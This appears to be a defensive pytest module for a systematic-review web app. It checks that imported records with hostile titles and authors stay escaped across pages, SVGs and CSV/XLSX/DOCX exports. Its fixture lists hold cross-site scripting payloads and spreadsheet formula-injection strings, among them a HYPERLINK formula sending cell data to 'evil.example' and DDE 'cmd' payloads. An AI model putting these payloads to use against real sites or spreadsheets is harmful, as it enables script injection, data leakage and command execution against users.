"""Hostile titles, abstracts, authors, journals and keywords, imported through the importer.

Every page, fragment and export that shows records or study labels must render them as
text: no tag, event handler or javascript: URL of the payloads reaches the HTML, and no
CSV/XLSX cell starts a formula.
"""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from html.parser import HTMLParser

import pytest

from tests.security.test_permission_roles import MATRIX, ROLES
from tests.security.urlwalk import review_routes
from tests.security.world import build_world

pytestmark = pytest.mark.django_db

HTML_PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "{{7*7}} {% debug %}",
    "'-alert(1)-'",
    "<ScRiPt>alert(1)</sCrIpT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u202eevil\u202c <iframe src=javascript:alert(1)>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<div style="background:url(javascript:alert(1))">x</div>',
]
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
PAYLOADS = HTML_PAYLOADS + FORMULA_PAYLOADS


# Reflected input: search boxes, filters, sort orders and page numbers echo the query string.
REFLECTED = dict.fromkeys(
    ("q", "search", "filter", "sort", "order", "page", "status", "item", "next", "tab"),
    '"><script>alert(1)</script><img src=x onerror=alert(1)>',
)


def hostile_records() -> list[dict]:
    records = []
    for i, payload in enumerate(PAYLOADS):
        records.append(
            {
                "title": f"{payload} trial {i}",
                "abstract": f"{payload} Mothers and infants were randomised {i}.",
                "authors": [payload, f"Smith{i}, J."],
                "journal": payload,
                "keywords": [payload, "infant"],
                "year": 1990 + i,
                "urls": ["javascript:alert(1)"],
            }
        )
    # The first record names the database and the consensus studies: make both formulas.
    records.insert(0, {**records[-5], "title": FORMULA_PAYLOADS[0] + " first", "year": 1980})
    return records


RAW_MARKERS = ("<script>alert(1)", "<img src=x", "<svg onload", "<svg/onload", "<iframe src=j")


class _Audit(HTMLParser):
    """Collect what an injected payload would add: handlers, js: URLs, scripts, bare tags."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: str | None = None
        self._script_type = ""

    def handle_starttag(self, tag, attrs):  # noqa: ANN001
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data") and (
                value.startswith("javascript:")
            ):
                self.problems.append(f"<{tag} {name}={value}>")
            if name == "style" and "javascript:" in value:
                self.problems.append(f"<{tag} style=javascript:>")
            if tag in ("img", "iframe") and name == "src" and value == "x":
                self.problems.append(f"<{tag} src=x>")
        if tag == "script":
            self._script = ""
            self._script_type = dict(attrs).get("type") or ""
            if not dict(attrs).get("src") and "json" not in self._script_type:
                self.problems.append("inline <script>")

    handle_startendtag = handle_starttag

    def handle_data(self, data):  # noqa: ANN001
        if self._script is not None:
            self._script += data

    def handle_endtag(self, tag):  # noqa: ANN001
        if tag == "script" and self._script is not None:
            # json_script escapes < > &: a raw one means the payload broke out
            if "alert(1)" in self._script and "<" in self._script:
                self.problems.append("payload inside a <script>")
            self._script = None


def html_problems(text: str) -> list[str]:
    audit = _Audit()
    audit.feed(text)
    audit.close()
    # " onerror=" itself may show inside escaped text (&lt;img src=x onerror=…&gt;); the tags may not
    raw = [m for m in RAW_MARKERS if m.lower() in text.lower()]
    return audit.problems + [f"raw {m!r}" for m in raw]


def formula_cells(cells) -> list[str]:  # noqa: ANN001
    bad = []
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            try:
                float(cell)
            except ValueError:
                bad.append(cell)
    return bad


def assert_svg_inert(content: bytes) -> None:
    """An SVG with no <script> element and no on* handler attribute anywhere."""
    root = ET.fromstring(content)
    for element in root.iter():
        assert not element.tag.endswith("script"), element.tag
        assert not [a for a in element.attrib if a.lower().startswith("on")], element.attrib


@pytest.fixture
def hostile(review):
    return build_world(review, hostile_records())


def test_the_payloads_came_through_the_importer_intact(hostile):
    from reviewapp.models import Record

    titles = set(Record.objects.filter(review=hostile.review).values_list("title", flat=True))
    assert "<script>alert(1)</script> trial 0" in titles
    journals = set(Record.objects.filter(review=hostile.review).values_list("journal", flat=True))
    assert '"><img src=x onerror=alert(1)>' in journals
    # an HTML entity in a RIS file is decoded on import: the page must still escape it
    assert any(t.startswith("<script>alert(1)</script> trial 10") for t in titles)


@pytest.mark.parametrize("role", ROLES)
def test_no_page_or_fragment_renders_a_payload_as_markup(client, hostile, personas, role):
    client.force_login(personas[role])
    column = ROLES.index(role)
    checked, problems = 0, []
    for route in review_routes():
        if MATRIX.get(route.name, (0, 0, 0))[column] != 200:
            continue
        url = hostile.url(route)
        for query, headers in (({}, {}), ({}, {"HTTP_HX_REQUEST": "true"}), (REFLECTED, {})):
            response = client.get(url, query, **headers)
            kind = response.get("Content-Type", "")
            if response.status_code >= 500:
                problems.append((route.name, headers and "htmx", bool(query), "5xx"))
            if response.status_code not in (200, 400, 404) or "html" not in kind:
                continue
            checked += 1
            found = html_problems(response.content.decode())
            if found:
                problems.append((route.name, headers and "htmx", bool(query), found[:3]))
    assert checked >= 20, checked
    assert not problems, problems


ESCAPED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&lt;svg onload=alert(1)&gt;",
    "&lt;/textarea&gt;",
    "&lt;ScRiPt&gt;",
    "&lt;a href=&quot;javascript:alert(1)&quot;&gt;",
)


@pytest.mark.parametrize(
    "name",
    ["references:record_list", "references:record_detail", "screening:screen", "screening:mine"],
)
def test_pages_show_the_payload_escaped(client, hostile, reviewer_a, name):
    route = next(r for r in review_routes() if r.name == name)
    client.force_login(reviewer_a)
    url = hostile.url(route)
    if name == "references:record_detail":
        from reviewapp.models import Record

        record = Record.objects.get(review=hostile.review, title__startswith="<script>", year=1990)
        url = url.replace(f"/records/{hostile.ids['record_id']}/", f"/records/{record.pk}/")
    query = {}
    if name == "screening:mine":
        from screening.models import ScreeningItem

        item = ScreeningItem.objects.filter(review=hostile.review).order_by("id").first()
        query = {"item": item.pk}
    text = client.get(url, query).content.decode()
    assert any(marker in text for marker in ESCAPED), name
    assert "<script>alert(1)" not in text


def test_the_screening_fragment_of_a_decision_escapes_the_next_record(client, hostile, reviewer_a):
    from screening.models import ScreeningItem

    client.force_login(reviewer_a)
    item = ScreeningItem.objects.filter(review=hostile.review, stage="ta").order_by("-id").first()
    response = client.post(
        f"/reviews/{hostile.review.slug}/screening/ta/decide/",
        {"item": item.pk, "verdict": "include"},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code < 500
    assert not html_problems(response.content.decode())


def test_prisma_svg_has_no_script_or_handler(client, hostile, lead):
    client.force_login(lead)
    response = client.get(f"/reviews/{hostile.review.slug}/references/prisma.svg")
    assert response.status_code == 200
    assert_svg_inert(response.content)


CSV_EXPORTS = [
    "extraction/export/outcomes.csv",
    "extraction/export/characteristics.csv",
    "risk-of-bias/table.csv",
]


@pytest.mark.parametrize("path", CSV_EXPORTS)
def test_csv_exports_start_no_formula(client, hostile, lead, path):
    client.force_login(lead)
    response = client.get(f"/reviews/{hostile.review.slug}/{path}")
    assert response.status_code == 200
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
    assert len(rows) > 1, rows
    assert not formula_cells([cell for row in rows for cell in row])


def test_the_study_labels_in_exports_carry_the_formula_payload_neutralised(client, hostile, lead):
    client.force_login(lead)
    text = client.get(f"/reviews/{hostile.review.slug}/risk-of-bias/table.csv").content.decode()
    assert "'=HYPERLINK(" in text or "'+cmd" in text or "'@SUM" in text, text[:500]


def test_xlsx_export_has_no_formula_cell(client, hostile, lead):
    from openpyxl import load_workbook

    client.force_login(lead)
    response = client.get(f"/reviews/{hostile.review.slug}/extraction/export/consensus.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not formula_cells([c.value for c in cells])


def test_rob_docx_keeps_the_payload_as_text(client, hostile, lead):
    from docx import Document

    client.force_login(lead)
    response = client.get(f"/reviews/{hostile.review.slug}/risk-of-bias/table.docx")
    assert response.status_code == 200
    document = Document(io.BytesIO(response.content))
    text = "\n".join(
        cell.text for table in document.tables for row in table.rows for cell in row.cells
    )
    assert "HYPERLINK" in text or "cmd|" in text or "SUM(" in text, text[:300]


@pytest.mark.parametrize("fmt", ["csv", "html"])
def test_summary_of_findings_exports_are_safe(client, hostile, lead, fmt):
    client.force_login(lead)
    slug = hostile.review.slug
    for url in (
        f"/reviews/{slug}/analysis/sof/download.{fmt}",
        f"/reviews/{slug}/analysis/sof/{hostile.ids['comparison_id']}/download.{fmt}",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.content.decode("utf-8-sig")
        if fmt == "html":
            assert not html_problems(text)
        else:
            assert not formula_cells([c for row in csv.reader(io.StringIO(text)) for c in row])


def test_the_markers_would_be_caught():
    # the audit itself: a payload rendered raw is reported
    assert html_problems('<p>"><img src=x onerror=alert(1)></p>')
    assert html_problems("<td><script>alert(1)</script></td>")
    assert html_problems('<a href="javascript:alert(1)">x</a>')
    assert not html_problems("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert formula_cells(["=1+1", "-2+3+cmd|' /C calc'!A0"]) and not formula_cells(["-1.5", "'=1"])


def test_analysis_pages_and_plots_escape_study_labels(
    client, hostile, lead, django_capture_on_commit_callbacks
):
    from analysis.models import Analysis
    from analysis.services.runs import analyses_run

    with django_capture_on_commit_callbacks(execute=True):
        analyses_run(actor=lead, review=hostile.review)
    analysis = Analysis.objects.filter(review=hostile.review).order_by("id").first()
    client.force_login(lead)
    base = f"/reviews/{hostile.review.slug}/analysis/{analysis.pk}"
    page = client.get(f"{base}/")
    assert page.status_code == 200
    text = page.content.decode()
    assert "HYPERLINK" in text, "the study labels should be on the page"
    assert not html_problems(text)
    script = client.get(f"{base}/script.R")
    assert script.status_code == 200 and "HYPERLINK" in script.content.decode()
    svg = client.get(f"{base}/forest-random.svg")
    assert svg.status_code == 200
    assert_svg_inert(svg.content)
